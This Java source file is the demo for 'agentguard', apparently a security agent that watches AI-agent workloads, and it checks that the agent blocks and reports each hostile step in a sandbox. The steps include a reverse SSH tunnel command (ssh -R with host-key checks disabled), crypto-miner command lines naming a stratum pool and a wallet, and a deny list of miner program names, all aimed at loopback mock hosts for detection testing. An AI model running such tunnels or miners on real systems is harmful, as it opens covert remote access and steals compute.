package io.agentguard.demo;

import io.agentguard.config.AgentConfig;
import io.agentguard.config.AgentConfigLoader;
import io.agentguard.daemon.Agent;
import io.agentguard.log.Log;
import io.agentguard.output.TextFormatter;
import io.agentguard.proto.v1.Event;
import io.agentguard.proto.v1.Verdict;
import io.agentguard.proto.v1.Violation;
import io.agentguard.scope.AgentCgroups;

import java.io.IOException;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;

/**
 * agentguard demo: starts an agent of its own on a fresh sandbox cgroup, runs a scripted
 * agent-like workload in it (benign work, a miner by name, the same miner renamed, a
 * reverse SSH tunnel, a GPU compute context on stand-in devices), prints live what the agent
 * sees, blocks and reports, checks each outcome, and removes everything it created.
 * Everything it contacts is on loopback: 127.66.x.y stands for outside hosts.
 */
public final class Demo {
    static final String POOL = "127.66.3.33";
    static final int POOL_PORT = 3333;
    static final String SSHD = "127.66.0.22";
    static final int SSHD_PORT = 2222;
    static final String REGISTRY = "127.66.0.80";
    static final int REGISTRY_PORT = 8080;
    private static final long STEP_TIMEOUT_MS = 30_000;
    private static final long QUIET_MS = 400;
    private static final String SYSTEM_PATH = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin";

    /** What a step must come to; {@code rule} null: no violation at all. */
    /** exitStatus: the exit status, or ANY_FAILURE where a kill and the program's own exit race (137 or its code). */
    record Expect(int exitStatus, String rule, boolean blocked, MockServer server, int serverConnections) {
        static final int ANY_FAILURE = -1;
    }

    record Step(String title, List<String> argv, Expect expect) {
    }

    /** Per-step tally, written by the agent's consumer thread, read after the step settles. */
    private static final class Tally {
        volatile long events;
        volatile long blocked;
        volatile long lastEventNs = System.nanoTime();
        final Set<String> rules = new LinkedHashSet<>();
        final Set<Integer> exited = java.util.concurrent.ConcurrentHashMap.newKeySet();
        volatile long violations;
    }

    private final PrintStream out;
    private final Path nativeDir;
    private final Path workDir;
    private final boolean allEvents;
    private volatile long demoCgroupId = -1;
    private volatile Tally current = new Tally();
    private final java.util.concurrent.atomic.AtomicBoolean cleanedUp = new java.util.concurrent.atomic.AtomicBoolean();

    public Demo(PrintStream out, Path nativeDir, Path workDir, boolean allEvents) {
        this.out = out;
        this.nativeDir = nativeDir;
        this.workDir = workDir;
        this.allEvents = allEvents;
    }

    /** Runs the demo; true when every step came out as expected. */
    public boolean run() throws Exception {
        for (String tool : List.of("demo_miner", "nvreplay", "connector", "sandbox_exec")) {
            if (!Files.isExecutable(nativeDir.resolve(tool))) {
                throw new IOException(nativeDir.resolve(tool) + " is missing (the demo's native tools; set"
                        + " -Dagentguard.native.dir or use the packaged launcher)");
            }
        }
        long pid = ProcessHandle.current().pid();
        String cgroup = "agentguard/demo-" + pid;
        Path ws = Files.createDirectories(workDir.resolve("agentguard-demo-" + pid));
        // devtmpfs: a stand-in opened from a nodev mount (/tmp, /run on many hosts) fails with EACCES
        Path devices = Path.of("/dev/agentguard-demo-" + pid);
        Agent agent = null;
        Path cgroupDir = null;
        List<AutoCloseable> servers = new ArrayList<>();
        Thread cleanup = null;
        try {
            Files.createDirectories(devices);
            mknod(devices.resolve("nvidiactl"), 7);
            mknod(devices.resolve("nvidia0"), 8);
            mknod(devices.resolve("nvidia-uvm"), 9);
            Files.createDirectories(ws.resolve("data"));
            for (int i = 0; i < 3; i++) {
                Files.writeString(ws.resolve("data/shard-" + i + ".txt"), "training shard " + i + "\n".repeat(100));
            }
            Path xmrig = Files.copy(nativeDir.resolve("demo_miner"), ws.resolve("xmrig"), StandardCopyOption.REPLACE_EXISTING);
            Path renamed = Files.copy(nativeDir.resolve("demo_miner"), ws.resolve("trainer-sidecar"),
                    StandardCopyOption.REPLACE_EXISTING);

            MockServer pool = new MockServer("mining pool", POOL, POOL_PORT,
                    "{\"id\":1,\"jsonrpc\":\"2.0\",\"result\":{\"status\":\"OK\"}}\n");
            servers.add(pool);
            MockServer sshd = new MockServer("sshd", SSHD, SSHD_PORT, "SSH-2.0-agentguard-demo\r\n");
            servers.add(sshd);
            MockServer registry = new MockServer("model registry", REGISTRY, REGISTRY_PORT,
                    "HTTP/1.0 200 OK\r\nContent-Length: 0\r\n\r\n");
            servers.add(registry);
            DemoCollector collector = new DemoCollector();
            servers.add(collector);

            AgentConfig config = config(cgroup, ws, devices, collector.address());
            agent = Agent.start(config, this::onEvent, this::onViolation, new Log(System.err, Log.Level.WARN));
            AgentCgroups.Root root = agent.cgroups().roots().getFirst();
            cgroupDir = root.directory();
            demoCgroupId = root.id();
            Agent started = agent;
            Path dirForHook = cgroupDir;
            cleanup = new Thread(() -> cleanUp(started, dirForHook, servers, ws, devices));
            Runtime.getRuntime().addShutdownHook(cleanup);

            out.println("agentguard demo: an agent-like workload in cgroup " + cgroup + ", watched by an agent of its own");
            out.println("  policy: egress (tunnels and shells included) only to the model registry " + REGISTRY
                    + ", GPU devices but no compute context, miner programs denied by name; " + agent.ruleStatus().rules()
                    + " rules");
            out.println("  mock hosts: mining pool " + pool.address() + ", sshd " + sshd.address() + ", model registry "
                    + registry.address() + "; collector " + collector.address());
            out.println("  hooks: " + agent.hooks());

            String stratum = "stratum+tcp://" + POOL + ":" + POOL_PORT;
            List<Step> steps = List.of(
                    new Step("benign work: checksum the training data, fetch from the model registry",
                            List.of("/bin/sh", "-c", "sha256sum data/* > sums && tar -cf model.tar data && exec \"$0\" tcp4 "
                                    + REGISTRY + " " + REGISTRY_PORT, nativeDir.resolve("connector").toString()),
                            new Expect(0, null, false, registry, 1)),
                    new Step("a miner started by its name (xmrig) pointing at a pool",
                            List.of(xmrig.toString(), "-o", stratum, "-u", "4AdemoWallet", "-a", "rx/0"),
                            new Expect(137, "Miner binary started", true, pool, 0)),
                    new Step("the same miner renamed trainer-sidecar: its name passes, its pool URL and connection do not",
                            List.of(renamed.toString(), "-o", stratum, "-u", "4AdemoWallet", "-a", "rx/0"),
                            new Expect(Expect.ANY_FAILURE, "Miner arguments in command line", true, pool, 0)),
                    new Step("a reverse SSH tunnel to an outside sshd (ssh -R)",
                            List.of(ssh(), "-F", "/dev/null", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no",
                                    "-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=5", "-N",
                                    "-R", "8022:127.0.0.1:22", "-p", String.valueOf(SSHD_PORT), "agent@" + SSHD),
                            new Expect(Expect.ANY_FAILURE,
                                    "SSH forwarding or tunnel tool to a destination policy does not explicitly allow", true,
                                    sshd, 0)),
                    new Step("a GPU compute context (CUDA driver ioctls replayed on stand-in devices)",
                            List.of(nativeDir.resolve("nvreplay").toString(), "--ctl", devices.resolve("nvidiactl").toString(),
                                    "--gpu", devices.resolve("nvidia0").toString(), "--uvm", devices.resolve("nvidia-uvm").toString()),
                            new Expect(137, "GPU compute context without a compute grant", true, null, 0)));

            List<String> failures = new ArrayList<>();
            long violations = 0;
            for (int i = 0; i < steps.size(); i++) {
                Step step = steps.get(i);
                out.printf("%n[%d/%d] %s%n      $ %s%n", i + 1, steps.size(), step.title(), String.join(" ", step.argv()));
                int before = step.expect().server() == null ? 0 : step.expect().server().connections();
                Tally tally = new Tally();
                current = tally;
                int exit = runStep(step, cgroupDir, ws, tally);
                violations += tally.violations;
                int arrived = step.expect().server() == null ? 0 : step.expect().server().connections() - before;
                List<String> wrong = check(step.expect(), exit, tally, arrived);
                out.printf("      => exit %d, %d events, %d blocked, violations %s%s%n      %s%n", exit, tally.events,
                        tally.blocked, tally.rules.isEmpty() ? "none" : String.join(", ", tally.rules),
                        step.expect().server() == null ? ""
                                : ", " + arrived + " connection(s) reached the mock " + step.expect().server().name,
                        wrong.isEmpty() ? "as expected" : "NOT AS EXPECTED: " + String.join("; ", wrong));
                wrong.forEach(w -> failures.add(step.title() + ": " + w));
            }
            current = new Tally();

            long deadlineNs = System.nanoTime() + TimeUnit.SECONDS.toNanos(15);
            while (collector.violations() < violations && System.nanoTime() < deadlineNs) {
                Thread.sleep(50);
            }
            out.printf("%nreported: %d of %d violations acknowledged by the collector at %s%n", collector.violations(),
                    violations, collector.address());
            if (collector.violations() != violations) {
                failures.add("the collector received " + collector.violations() + " of " + violations + " violations");
            }
            if (failures.isEmpty()) {
                out.println("demo: every step came out as expected; cleaning up");
            } else {
                out.println("demo: " + failures.size() + " step(s) did not come out as expected:");
                failures.forEach(f -> out.println("  - " + f));
            }
            return failures.isEmpty();
        } finally {
            if (cleanup != null) {
                try {
                    Runtime.getRuntime().removeShutdownHook(cleanup);
                } catch (IllegalStateException shuttingDown) {
                    // the hook is running the same clean-up
                }
            }
            cleanUp(agent, cgroupDir, servers, ws, devices);
        }
    }

    private AgentConfig config(String cgroup, Path ws, Path devices, String collector) {
        String yaml = """
                mode: enforce
                agent_cgroups: [%s]
                create_missing_cgroups: true
                rules: {default_pack: true, paths: [], watch_interval_ms: 0}
                syscall_outcomes: "on"
                stats_interval_ms: 0
                runtime_dir: %s
                metrics: {listen: ""}
                gpu:
                  standins: ["%s=control", "%s=gpu0", "%s=uvm"]
                enforcement: {pin_path: ""}
                report:
                  collectors: ["%s"]
                  tls: plaintext
                  node: demo
                  spool_dir: %s
                  heartbeat_ms: 1000
                policies:
                  default:
                    egress: {default: deny, allow: [%s/32], tunnels: deny, shells: deny}
                    gpu: {devices: all, compute: false}
                    exec: {deny: [xmrig, xmrig-cuda, t-rex, lolMiner, nbminer, gminer, ethminer]}
                """.formatted(cgroup, ws.resolve("run"), devices.resolve("nvidiactl"), devices.resolve("nvidia0"),
                devices.resolve("nvidia-uvm"), collector, ws.resolve("spool"), REGISTRY);
        return AgentConfigLoader.parse("demo configuration", yaml);
    }

    private int runStep(Step step, Path cgroupDir, Path ws, Tally tally) throws IOException, InterruptedException {
        // each step runs as agents should: through the sandbox launcher, without capabilities and with
        // cgroupfs, bpffs and the demo agent's own directories read-only (else: a posture violation)
        List<String> argv = new java.util.ArrayList<>(List.of(nativeDir.resolve("sandbox_exec").toString(),
                "--cgroup-procs", cgroupDir.resolve("cgroup.procs").toString()));
        for (Path ro : List.of(Path.of("/sys/fs/cgroup"), io.agentguard.scope.Cgroup2Mount.find(), Path.of("/sys/fs/bpf"),
                ws.resolve("run"), ws.resolve("spool"))) {
            argv.addAll(List.of("--ro", ro.toString()));
        }
        argv.add("--");
        argv.addAll(step.argv());
        ProcessBuilder pb = new ProcessBuilder(argv).directory(ws.toFile())
                .redirectErrorStream(true);
        pb.environment().remove("SSH_AUTH_SOCK");
        pb.environment().put("PATH", SYSTEM_PATH);
        Process p = pb.start();
        p.getOutputStream().close();
        byte[] output = p.getInputStream().readAllBytes();
        if (!p.waitFor(STEP_TIMEOUT_MS, TimeUnit.MILLISECONDS)) {
            p.destroyForcibly();
        }
        int exit = p.waitFor();
        // the exit event closes the step; then wait for a quiet moment (violations follow their event)
        long deadlineNs = System.nanoTime() + TimeUnit.SECONDS.toNanos(5);
        while (!tally.exited.contains((int) p.pid()) && System.nanoTime() < deadlineNs) {
            Thread.sleep(20);
        }
        while (System.nanoTime() - tally.lastEventNs < TimeUnit.MILLISECONDS.toNanos(QUIET_MS)
                && System.nanoTime() < deadlineNs) {
            Thread.sleep(20);
        }
        String text = new String(output, StandardCharsets.UTF_8).strip();
        synchronized (out) {
            for (String line : text.isEmpty() ? List.<String>of() : text.lines().toList()) {
                out.println("      | " + line);
            }
        }
        return exit;
    }

    /** The ssh client, found where Debian puts it (a step that cannot run says why). */
    private static String ssh() {
        for (String dir : SYSTEM_PATH.split(":")) {
            if (Files.isExecutable(Path.of(dir, "ssh"))) {
                return dir + "/ssh";
            }
        }
        return "ssh-not-installed(openssh-client)";
    }

    private static List<String> check(Expect expect, int exit, Tally tally, int arrived) {
        List<String> wrong = new ArrayList<>();
        if (expect.exitStatus() == Expect.ANY_FAILURE ? exit == 0 : exit != expect.exitStatus()) {
            wrong.add("exit status " + exit + ", expected " + expect.exitStatus());
        }
        if (expect.rule() == null && !tally.rules.isEmpty()) {
            wrong.add("unexpected violations " + tally.rules);
        }
        if (expect.rule() != null && !tally.rules.contains(expect.rule())) {
            wrong.add("no violation of \"" + expect.rule() + "\"");
        }
        if (expect.blocked() != (tally.blocked > 0)) {
            wrong.add(expect.blocked() ? "nothing was blocked" : "something was blocked");
        }
        if (expect.server() != null && arrived != expect.serverConnections()) {
            wrong.add(arrived + " connection(s) reached the mock " + expect.server().name + ", expected "
                    + expect.serverConnections());
        }
        return wrong;
    }

    private void onEvent(Event e) {
        if (e.getProcess().getCgroupId() != demoCgroupId) {
            return;
        }
        Tally t = current;
        t.events++;
        t.lastEventNs = System.nanoTime();
        boolean denied = denied(e);
        if (denied) {
            t.blocked++;
        }
        if (e.hasExit()) {
            t.exited.add(e.getProcess().getPid());
        }
        if (denied || allEvents || interesting(e)) {
            synchronized (out) {
                out.println((denied ? "  BLOCKED " : "     seen ") + TextFormatter.format(e));
            }
        }
    }

    private void onViolation(Violation v) {
        if (v.getProcess().getCgroupId() != demoCgroupId) {
            return;
        }
        Tally t = current;
        synchronized (t.rules) {
            t.rules.add(v.getRule());
        }
        t.violations++;
        t.lastEventNs = System.nanoTime();
        synchronized (out) {
            out.println("    ALERT " + TextFormatter.format(v));
        }
    }

    /** Without --all-events: GPU ioctls other than compute contexts and forks are only counted. */
    private static boolean interesting(Event e) {
        return switch (e.getKindCase()) {
            case FORK -> false;
            case GPU -> e.getGpu().hasOpen() || e.getGpu().getIoctl().getComputeContext();
            default -> true;
        };
    }

    static boolean denied(Event e) {
        Verdict v = switch (e.getKindCase()) {
            case EXEC -> e.getExec().getVerdict();
            case CONNECT -> e.getConnect().getVerdict();
            case GPU -> e.getGpu().hasOpen() ? e.getGpu().getOpen().getVerdict() : e.getGpu().getIoctl().getVerdict();
            case TAMPER -> e.getTamper().getVerdict();
            case SOCKET -> e.getSocket().getVerdict();
            default -> Verdict.VERDICT_UNSPECIFIED;
        };
        return v == Verdict.VERDICT_DENIED;
    }

    private static void mknod(Path path, int minor) throws IOException, InterruptedException {
        // memory devices (1,7..9) as stand-ins: harmless to open, registered by device number
        Process p = new ProcessBuilder("mknod", path.toString(), "c", "1", String.valueOf(minor))
                .redirectErrorStream(true).start();
        String output = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8).strip();
        if (p.waitFor() != 0) {
            throw new IOException("mknod " + path + " failed: " + output);
        }
    }

    private void cleanUp(Agent agent, Path cgroupDir, List<AutoCloseable> servers, Path ws, Path devices) {
        if (!cleanedUp.compareAndSet(false, true)) {
            return;
        }
        if (cgroupDir != null && Files.isDirectory(cgroupDir)) {
            try {
                Files.writeString(cgroupDir.resolve("cgroup.kill"), "1");
            } catch (IOException ignored) {
                // empty already, or a kernel without cgroup.kill: rmdir below says so
            }
        }
        if (agent != null) {
            agent.close();
        }
        for (AutoCloseable s : servers) {
            try {
                s.close();
            } catch (Exception ignored) {
                // best effort: the process is about to end
            }
        }
        if (cgroupDir != null) {
            removeCgroup(cgroupDir);
        }
        deleteTree(ws);
        deleteTree(devices);
    }

    private void removeCgroup(Path dir) {
        for (int attempt = 0; attempt < 50; attempt++) {
            try {
                Files.deleteIfExists(dir);
                return;
            } catch (IOException busy) {
                try {
                    Thread.sleep(20);   // the killed processes are still exiting
                } catch (InterruptedException e) {
                    Thread.currentThread().interrupt();
                    break;
                }
            }
        }
        out.println("demo: could not remove cgroup " + dir + " (processes left in it?)");
    }

    private void deleteTree(Path dir) {
        if (!Files.exists(dir)) {
            return;
        }
        try (Stream<Path> paths = Files.walk(dir)) {
            for (Path p : paths.sorted(Comparator.reverseOrder()).toList()) {
                Files.deleteIfExists(p);
            }
        } catch (IOException e) {
            out.println("demo: could not remove " + dir + ": " + e.getMessage());
        }
    }
}
